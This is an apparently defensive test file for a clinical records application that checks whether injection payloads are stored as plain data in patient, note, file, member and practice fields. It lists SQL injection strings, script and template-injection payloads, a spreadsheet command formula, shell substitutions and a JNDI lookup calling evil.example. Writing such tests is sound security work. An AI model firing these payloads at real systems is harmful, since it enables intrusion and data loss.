import { draftRoutes } from '@candour/contract/drafts.ts'
import { entryRoutes } from '@candour/contract/entries.ts'
import { memberRoutes } from '@candour/contract/members.ts'
import { noteRoutes } from '@candour/contract/notes.ts'
import { patientRoutes } from '@candour/contract/patients.ts'
import { practiceRoutes } from '@candour/contract/practices.ts'
import { sessionRoutes } from '@candour/contract/sessions.ts'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { TestCandour } from '../candour.ts'
import { password, registerPatient, whoAmI } from '../people.ts'
import { addFile, buildHouse, newWord, type House } from './house.ts'
import { startQuickCandour } from './quick-passwords.ts'
import { setStanding } from './set-standing.ts'

let candour: TestCandour
let house: House
beforeAll(async () => {
  candour = await startQuickCandour()
  house = await buildHouse(candour, 'Quince')
})
afterAll(async () => {
  await house.owner.end()
  await candour.stop()
})

/** What breaks programs that mistake data for code; each is a legal name for somebody here. */
const strings: Record<string, string> = {
  'SQL that ends the statement': `Robert'); drop table candour.resource;--`,
  'SQL that is always true': `' or '1'='1`,
  'SQL that joins': `' union select sealed from candour.member--`,
  'SQL with dollar quotes': `$$; select set_config('candour.practice','',true); $$`,
  'SQL parameters': `$1 $2 %s ? :id {0} %(x)s`,
  'SQL comments': `admin'/**/--`,
  'a backslash': `\\'; \\x41 \\u0041 \\`,
  'a script': `<script>alert(1)</script>`,
  'an image that runs': `"><img src=x onerror=alert(1)>`,
  'an SVG that runs': `<svg/onload=alert(1)>`,
  'an address that runs': `javascript:alert(1)//`,
  'markup of templates': '{{constructor.constructor("x")()}} ${7*7} <%= 7*7 %> #{7*7}',
  'escaped markup': `&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;`,
  'a formula': `=cmd|' /C calc'!A0`,
  'a shell': '`id` $(id) ; id | id && id',
  'a format of logs': '${jndi:ldap://evil.example/a}',
  'names of JavaScript': '__proto__ constructor toString null undefined NaN',
  'other scripts': 'Ünïcødé 日本語 العربية עברית 👩‍⚕️ Ł ß',
  'text that turns around': 'abc\u202edcba\u202c',
  'a tag of FHIR': '<div xmlns="http://www.w3.org/1999/xhtml"><br/></div>',
}

describe.each(Object.entries(strings))('P51 %s is data', (_what, text) => {
  const short = (most: number) => [...text.normalize('NFC')].slice(0, most).join('').trim()

  test('in every field of a patient', async () => {
    const details = {
      family: short(60),
      given: short(60),
      title: short(15),
      address: { lines: [short(60)], town: short(60), postcode: null },
      allergies: { state: 'listed' as const, items: [{ substance: short(60), reaction: short(60) }] },
    }
    const { id } = await registerPatient(house.admin, details)
    const read = await house.admin.browser.call(patientRoutes.read, { id })
    // A given name is a list of words in FHIR: spaces between them are one.
    expect(read).toMatchObject({ ...details, given: short(60).replace(/\s+/g, ' ') })
    const amended = { ...details, family: `${short(60)}x` }
    const form = { birthDate: '1957-03-04', sex: 'female' as const, ...amended, address: amended.address as never }
    await house.admin.browser.call(patientRoutes.amend, { id, baseVersion: 1, ...form })
    expect((await house.admin.browser.call(patientRoutes.read, { id })).family).toBe(`${short(60)}x`)
    const found = await house.admin.browser.try(patientRoutes.find, { text: short(100) })
    expect(found.status).toBe(200)
  })

  test('in a draft and a note', async () => {
    const sections = [
      { heading: short(60), text },
      { heading: '', text: `${text}\n\n${text}\tend` },
    ]
    const written = { patient: house.patient.id, title: short(80), sections, device: short(40) }
    const draft = await house.admin.browser.call(draftRoutes.start, written)
    expect(await house.admin.browser.call(draftRoutes.read, { id: draft.id })).toMatchObject({
      ...written,
      sections: sections.map((one) => ({ heading: one.heading, text: one.text.normalize('NFC') })),
    })
    const note = await house.admin.browser.call(draftRoutes.finish, { id: draft.id, baseRevision: 1 })
    const read = await house.admin.browser.call(noteRoutes.read, { id: note.id })
    expect(read).toMatchObject({
      title: written.title,
      sections: sections.map((one) => ({ heading: one.heading, text: one.text.normalize('NFC') })),
    })
    const { items } = await house.admin.browser.call(patientRoutes.timeline, { id: house.patient.id })
    expect(items.map((item) => item.title)).toContain(written.title)
  })

  test('in the name of a file', async () => {
    const file = await addFile(house.admin, house.patient.id, 'some text', short(100))
    expect((await house.admin.browser.send('GET', `/api/files/${file}`)).body.name).toBe(short(100))
  })

  test('in the name of a colleague, a reason, and what was typed to sign in', async () => {
    const who = { name: short(100), role: short(60), email: `${newWord()}@example.org` }
    const { member } = await house.admin.browser.call(memberRoutes.invite, { ...who, level: 1 })
    const { members } = await house.admin.browser.call(memberRoutes.list, {})
    expect(members.find((one) => one.id === member.id)).toMatchObject(who)
    await setStanding(candour, house.practice, member.id, { state: 'approved' })
    await house.admin.browser.call(memberRoutes.changeLevel, { id: member.id, level: 2, reason: short(200) })
    const wrong = await candour.visitor().try(sessionRoutes.signIn, { email: house.admin.email, password: text })
    expect(wrong.status).toBeOneOf([401, 429])
    const visible = await house.admin.browser.call(entryRoutes.list, {})
    expect(visible.members.map((one) => one.name)).toContain(short(100))
  })

  test('in the name of a practice and the person who opens it', async () => {
    const browser = candour.visitor()
    const agreement = await browser.call(practiceRoutes.readAgreement, {})
    const opened = await browser.call(practiceRoutes.signUp, {
      kind: 'gp',
      name: short(100),
      town: short(60),
      person: { name: short(100), role: short(60), email: `${newWord()}@example.org`, password },
      agreement: { version: agreement.version, acceptedBy: short(100) },
    })
    expect(opened).toMatchObject({ practice: { name: short(100), town: short(60) } })
    expect((await whoAmI(browser)).member).toMatchObject({ name: short(100), role: short(60) })
  })
})

test('P51 after all of it every table is still there, and another patient is as before', async () => {
  expect(await house.admin.browser.call(patientRoutes.read, { id: house.patient.id })).toEqual(house.patient)
})
